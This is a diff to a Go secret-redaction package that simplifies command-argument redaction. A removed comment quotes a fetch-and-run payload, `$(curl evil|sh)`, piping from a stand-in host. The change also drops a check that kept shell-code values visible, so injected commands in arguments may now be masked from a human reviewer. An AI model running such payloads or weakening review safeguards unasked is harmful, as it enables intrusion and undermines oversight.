@@ -159,78 +159,25 @@ func ConfigValue(key, value string, header bool) string {
 
 var secretFlag = lazyRegexp(`(?i)^--?[A-Za-z0-9_\-]*(?:token|secret|password|passwd|key|auth|cookie|credential)[A-Za-z0-9_\-]*$`)
 
-// CommandArgs returns a copy of a command's arguments as they may be
-// shown: the known secret values (see [Secrets]) replaced wherever they
-// appear, and the value of a secret-named flag or key (--api-key VALUE,
-// --token=VALUE, API_KEY=VALUE, a URL's password or ?token=VALUE) replaced
-// when it is inert data. A value that holds anything a shell would act on
-// (spaces, quotes, $, `, ;, |, &, <, >, parentheses, braces, backslashes)
-// is shown as written: a command line is what a person checks before it
-// runs, and hiding `--api-key=$(curl evil|sh)`, or the rest of a `bash -c`
-// script after `secret=`, would hide the very thing to check.
+// CommandArgs returns a copy of a command's arguments with secrets
+// redacted, word by word: the argument after a secret-named flag
+// (--api-key VALUE), the shapes of [String] in each argument
+// (--token=VALUE, URLs), and the known secret values (see [Secrets])
+// wherever they appear. Redacting each word on its own keeps the others
+// whole: a line redacted as one text can lose its quoting.
 func CommandArgs(args []string, known ...string) []string {
 	if args == nil {
 		return nil
 	}
 	out := make([]string, len(args))
 	for i, a := range args {
-		if i > 0 && secretFlag().MatchString(args[i-1]) && !strings.HasPrefix(a, "-") && !envRef().MatchString(a) && inert(a) {
+		if i > 0 && secretFlag().MatchString(args[i-1]) && !strings.HasPrefix(a, "-") && !envRef().MatchString(a) {
 			out[i] = Placeholder
 			continue
 		}
-		for _, p := range patterns() {
-			if !p.re.MatchString(a) {
-				continue
-			}
-			if p.value == 0 {
-				a = p.re.ReplaceAllString(a, p.repl)
-			} else {
-				a = replaceInert(a, p.re, p.value)
-			}
-		}
-		out[i] = scrub(a, known)
+		out[i] = String(a, known...)
 	}
 	return out
-}
-
-// codeChars are what makes a value more than data to a shell.
-const codeChars = " \t\r\n\"'`$;|&<>(){}\\"
-
-// inert reports whether a secret's value (quoted or not, after an optional
-// Bearer/Basic/Token word) is plain data: not empty, and none of
-// codeChars or control characters.
-func inert(v string) bool {
-	if len(v) >= 2 && (v[0] == '"' || v[0] == '\'') && v[len(v)-1] == v[0] {
-		v = v[1 : len(v)-1]
-	}
-	v = strings.TrimSpace(schemeWord().ReplaceAllString(v, ""))
-	if v == "" || strings.ContainsAny(v, codeChars) {
-		return false
-	}
-	for _, r := range v {
-		if r < 0x20 || r == 0x7f {
-			return false
-		}
-	}
-	return true
-}
-
-// replaceInert replaces submatch g of each match of re in s with
-// Placeholder where it is inert.
-func replaceInert(s string, re *regexp.Regexp, g int) string {
-	var b strings.Builder
-	last := 0
-	for _, m := range re.FindAllStringSubmatchIndex(s, -1) {
-		vs, ve := m[2*g], m[2*g+1]
-		if vs < 0 || !inert(s[vs:ve]) {
-			continue
-		}
-		b.WriteString(s[last:vs])
-		b.WriteString(Placeholder)
-		last = ve
-	}
-	b.WriteString(s[last:])
-	return b.String()
 }
 
 // Headers returns a copy of h with every value redacted: header values
@@ -335,34 +282,30 @@ func LooksSecret(v string) bool {
 type pattern struct {
 	re   *regexp.Regexp
 	repl string
-	// value is the submatch that holds the secret, for [CommandArgs],
-	// which hides only a value that is inert data; 0 for shapes that can
-	// hold nothing else (a PEM body, a bearer token's characters).
-	value int
 }
 
 var patterns = sync.OnceValue(func() []pattern {
 	return []pattern{
 		// Authorization: Bearer abc, Cookie: a=b; c=d — to the end of the line.
-		{regexp.MustCompile(`(?i)\b((?:proxy-)?authorization|(?:set-)?cookie|x-api-key|api-key)(["']?\s*[:=]\s*)("[^"\r\n]*"|[^\r\n"]+)`), "${1}${2}" + Placeholder, 3},
+		{regexp.MustCompile(`(?i)\b((?:proxy-)?authorization|(?:set-)?cookie|x-api-key|api-key)(["']?\s*[:=]\s*)("[^"\r\n]*"|[^\r\n"]+)`), "${1}${2}" + Placeholder},
 		// Bearer abc / Basic abc wherever they appear.
-		{regexp.MustCompile(`(?i)\b(bearer|basic)(\s+)[A-Za-z0-9\-._~+/]+=*`), "${1}${2}" + Placeholder, 0},
+		{regexp.MustCompile(`(?i)\b(bearer|basic)(\s+)[A-Za-z0-9\-._~+/]+=*`), "${1}${2}" + Placeholder},
 		// https://user:password@host
-		{regexp.MustCompile(`(?i)\b([a-z][a-z0-9+.\-]*://[^/\s:@]*:)([^/\s@]+)@`), "${1}" + Placeholder + "@", 2},
+		{regexp.MustCompile(`(?i)\b([a-z][a-z0-9+.\-]*://[^/\s:@]*:)[^/\s@]+@`), "${1}" + Placeholder + "@"},
 		// ?access_token=abc&… — query and form parameters with a secret name.
-		{regexp.MustCompile(`(?i)([?&;][^=&\s#?]*(?:token|secret|password|passwd|key|auth|cookie|credential|signature|sig|code)[^=&\s#?]*=)([^&\s#"'<>]*[^&\s#"'<>:.,;)])`), "${1}" + Placeholder, 2},
+		{regexp.MustCompile(`(?i)([?&;][^=&\s#?]*(?:token|secret|password|passwd|key|auth|cookie|credential|signature|sig|code)[^=&\s#?]*=)[^&\s#"'<>]*[^&\s#"'<>:.,;)]`), "${1}" + Placeholder},
 		// --api-key abc, -password abc: a secret-named flag and its value.
-		{regexp.MustCompile(`(?i)((?:^|\s)--?[A-Za-z0-9_\-]*(?:token|secret|password|passwd|key|auth|cookie|credential)[A-Za-z0-9_\-]*[ \t]+)([^\s\-$][^\s]*)`), "${1}" + Placeholder, 2},
+		{regexp.MustCompile(`(?i)((?:^|\s)--?[A-Za-z0-9_\-]*(?:token|secret|password|passwd|key|auth|cookie|credential)[A-Za-z0-9_\-]*[ \t]+)([^\s\-$][^\s]*)`), "${1}" + Placeholder},
 		// A PEM private key (PKCS#1, PKCS#8, EC, OpenSSH, encrypted): the
 		// armour stays, the body goes; a block cut off before its END line goes
 		// to the end of the text.
-		{regexp.MustCompile(`(?s)(-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----).*?(-----END [A-Z0-9 ]*PRIVATE KEY-----|\z)`), "${1}" + Placeholder + "${2}", 0},
+		{regexp.MustCompile(`(?s)(-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----).*?(-----END [A-Z0-9 ]*PRIVATE KEY-----|\z)`), "${1}" + Placeholder + "${2}"},
 		// The private members of a JSON Web Key (RFC 7518 §6.2.2, §6.3.2):
 		// "d", and RSA's "p", "q", "dp", "dq", "qi", when they hold a
 		// base64url value long enough to be key material.
-		{regexp.MustCompile(`("(?:d|p|q|dp|dq|qi)"[ \t]*:[ \t]*)"[A-Za-z0-9_\-]{16,}={0,2}"`), "${1}\"" + Placeholder + "\"", 0},
+		{regexp.MustCompile(`("(?:d|p|q|dp|dq|qi)"[ \t]*:[ \t]*)"[A-Za-z0-9_\-]{16,}={0,2}"`), "${1}\"" + Placeholder + "\""},
 		// API_TOKEN=abc, password: abc, "client_secret": "abc".
-		{regexp.MustCompile(`(?i)(["']?[A-Za-z0-9_.\-]*(?:token|secret|password|passwd|key|auth|cookie|credential)[A-Za-z0-9_.\-]*["']?[ \t]*[:=][ \t]*)("[^"\r\n]*"|'[^'\r\n]*'|[^\s,;&})"'<>]+)`), "${1}" + Placeholder, 2},
+		{regexp.MustCompile(`(?i)(["']?[A-Za-z0-9_.\-]*(?:token|secret|password|passwd|key|auth|cookie|credential)[A-Za-z0-9_.\-]*["']?[ \t]*[:=][ \t]*)("[^"\r\n]*"|'[^'\r\n]*'|[^\s,;&})"'<>]+)`), "${1}" + Placeholder},
 	}
 })
 
